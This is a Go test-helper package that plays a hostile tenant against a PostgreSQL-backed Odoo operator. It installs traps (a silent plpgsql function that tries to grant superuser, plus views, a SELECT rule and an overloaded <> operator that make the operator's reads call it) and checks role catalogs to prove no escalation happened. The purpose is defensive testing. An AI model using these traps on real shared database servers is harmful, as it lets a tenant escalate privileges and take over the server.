// Package pgattack is what a hostile tenant does inside its own database to
// make the operator's reads run its code with more rights than its own, and
// the catalog snapshot tests compare to prove nothing changed. Tests install
// the traps logged in as the tenant's role (with the password of its
// `<name>-odoo-user` Secret, as a tenant can), then make the operator read
// the database (an upgrade's module snapshot and post-check, a restore's
// verification and neutralize check).
package pgattack

import (
	"context"
	"fmt"
	"maps"
	"slices"
	"strings"

	"github.com/jackc/pgx/v5"
)

// Tables are the tables the operator reads in an instance's database.
var Tables = []string{"ir_module_module", "ir_config_parameter", "ir_mail_server"}

// Variant is one way to hide a call of the trap function in a read.
type Variant struct {
	Name string
	// SQL installs the variant on table (which the tenant owns); the trap
	// function public.tenant_trap() already exists.
	SQL func(table string) string
}

// trapFunction returns the function every variant calls: as whoever runs
// it, it leaves any SET ROLE, tries to make role a superuser (and
// CREATEROLE, CREATEDB) and to create a superuser role, each in its own
// block so that the read goes on (and the operator sees nothing wrong)
// whether they succeed or not.
func trapFunction(role string) string {
	lit := "'" + strings.ReplaceAll(pgx.Identifier{role}.Sanitize(), "'", "''") + "'"
	return `CREATE OR REPLACE FUNCTION public.tenant_trap() RETURNS boolean LANGUAGE plpgsql VOLATILE AS $trap$
BEGIN
  BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'ALTER ROLE ' || ` + lit + ` || ' SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'ALTER ROLE ' || ` + lit + ` || ' CREATEROLE CREATEDB'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'CREATE ROLE tenant_trap_sprung SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $trap$`
}

// hide renames the real table aside, so a view (or a rule) can take its
// name; the view reads the real rows, so the operator's read succeeds.
func hide(table string) string {
	return fmt.Sprintf(`ALTER TABLE public.%[1]s RENAME TO %[2]s`, pgx.Identifier{table}.Sanitize(), pgx.Identifier{table + "_real"}.Sanitize())
}

// Variants are the traps: a view filtering on the function, a view whose
// column calls it, a SELECT rule turning the table into a view, and an
// operator the read's WHERE clause resolves to.
var Variants = []Variant{
	{Name: "view", SQL: func(t string) string {
		return hide(t) + fmt.Sprintf(`; CREATE VIEW public.%s AS SELECT * FROM public.%s WHERE public.tenant_trap()`,
			pgx.Identifier{t}.Sanitize(), pgx.Identifier{t + "_real"}.Sanitize())
	}},
	{Name: "view-column", SQL: func(t string) string {
		return hide(t) + fmt.Sprintf(`; CREATE VIEW public.%s AS SELECT r.*, public.tenant_trap() AS trap FROM public.%s r`,
			pgx.Identifier{t}.Sanitize(), pgx.Identifier{t + "_real"}.Sanitize())
	}},
	{Name: "rule", SQL: func(t string) string {
		// An empty table of the same shape becomes a view through an ON
		// SELECT rule (PostgreSQL 15 and before).
		return hide(t) + fmt.Sprintf(`; CREATE TABLE public.%[1]s (LIKE public.%[2]s);
CREATE RULE "_RETURN" AS ON SELECT TO public.%[1]s DO INSTEAD SELECT * FROM public.%[2]s WHERE public.tenant_trap()`,
			pgx.Identifier{t}.Sanitize(), pgx.Identifier{t + "_real"}.Sanitize())
	}},
}

// OperatorTrap overloads <> on varchar, which `state <> 'uninstallable'` on
// ir_module_module resolves to ahead of pg_catalog's text operator even
// with search_path pinned to pg_catalog, public.
const OperatorTrap = `CREATE FUNCTION public.tenant_trap_ne(a varchar, b varchar) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN PERFORM public.tenant_trap(); RETURN a::text <> b::text; END $f$;
CREATE OPERATOR public.<> (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = public.tenant_trap_ne)`

// Install runs, on a connection logged in as the tenant's role into its own
// database, the trap function and variant v on every table of Tables that
// exists, plus the operator trap. It returns the tables it trapped.
func Install(ctx context.Context, tenant *pgx.Conn, role string, v Variant) ([]string, error) {
	if _, err := tenant.Exec(ctx, trapFunction(role)); err != nil {
		return nil, fmt.Errorf("trap function: %w", err)
	}
	var trapped []string
	for _, t := range Tables {
		var exists bool
		if err := tenant.QueryRow(ctx, `SELECT to_regclass('public.' || quote_ident($1)) IS NOT NULL`, t).Scan(&exists); err != nil {
			return nil, err
		}
		if !exists {
			continue
		}
		if _, err := tenant.Exec(ctx, v.SQL(t)); err != nil {
			return nil, fmt.Errorf("variant %s on %s: %w", v.Name, t, err)
		}
		trapped = append(trapped, t)
	}
	if _, err := tenant.Exec(ctx, OperatorTrap); err != nil {
		return nil, fmt.Errorf("operator trap: %w", err)
	}
	return trapped, nil
}

// Sprung tells, on a connection as the tenant, whether the traps still
// answer reads (the operator's reads go through them): it runs the module
// read the way the operator does and returns how many rows it saw.
func Sprung(ctx context.Context, tenant *pgx.Conn) (int, error) {
	var n int
	err := tenant.QueryRow(ctx, `SELECT count(*) FROM ir_module_module WHERE state <> 'uninstallable'`).Scan(&n)
	return n, err
}

// Role is the privilege bits of one role.
type Role struct {
	Super, CreateRole, CreateDB, Replication, BypassRLS, Login bool
}

// Catalog is a snapshot of what a tenant must never change on the server:
// every role's privileges and every database's owner.
type Catalog struct {
	Roles  map[string]Role
	Owners map[string]string
}

// Snapshot reads the catalog on an admin connection.
func Snapshot(ctx context.Context, admin *pgx.Conn) (Catalog, error) {
	c := Catalog{Roles: map[string]Role{}, Owners: map[string]string{}}
	rows, err := admin.Query(ctx, `SELECT rolname, rolsuper, rolcreaterole, rolcreatedb, rolreplication, rolbypassrls, rolcanlogin FROM pg_catalog.pg_roles`)
	if err != nil {
		return c, err
	}
	for rows.Next() {
		var name string
		var r Role
		if err := rows.Scan(&name, &r.Super, &r.CreateRole, &r.CreateDB, &r.Replication, &r.BypassRLS, &r.Login); err != nil {
			return c, err
		}
		c.Roles[name] = r
	}
	if err := rows.Err(); err != nil {
		return c, err
	}
	rows, err = admin.Query(ctx, `SELECT datname, pg_catalog.pg_get_userbyid(datdba) FROM pg_catalog.pg_database`)
	if err != nil {
		return c, err
	}
	for rows.Next() {
		var db, owner string
		if err := rows.Scan(&db, &owner); err != nil {
			return c, err
		}
		c.Owners[db] = owner
	}
	return c, rows.Err()
}

// Diff lists what changed from before to after for the roles and databases
// that existed before (new ones are reported only when privileged, like the
// trap's tenant_trap_sprung); "" when nothing did.
func Diff(before, after Catalog) string {
	var out []string
	for _, name := range slices.Sorted(maps.Keys(after.Roles)) {
		a := after.Roles[name]
		b, existed := before.Roles[name]
		switch {
		case !existed && (a.Super || a.CreateRole || a.CreateDB || a.Replication || a.BypassRLS):
			out = append(out, fmt.Sprintf("new privileged role %q: %+v", name, a))
		case existed && a != b:
			out = append(out, fmt.Sprintf("role %q changed: %+v -> %+v", name, b, a))
		}
	}
	for _, db := range slices.Sorted(maps.Keys(before.Owners)) {
		if o, ok := after.Owners[db]; ok && o != before.Owners[db] {
			out = append(out, fmt.Sprintf("database %q changed owner: %q -> %q", db, before.Owners[db], o))
		}
	}
	return strings.Join(out, "; ")
}
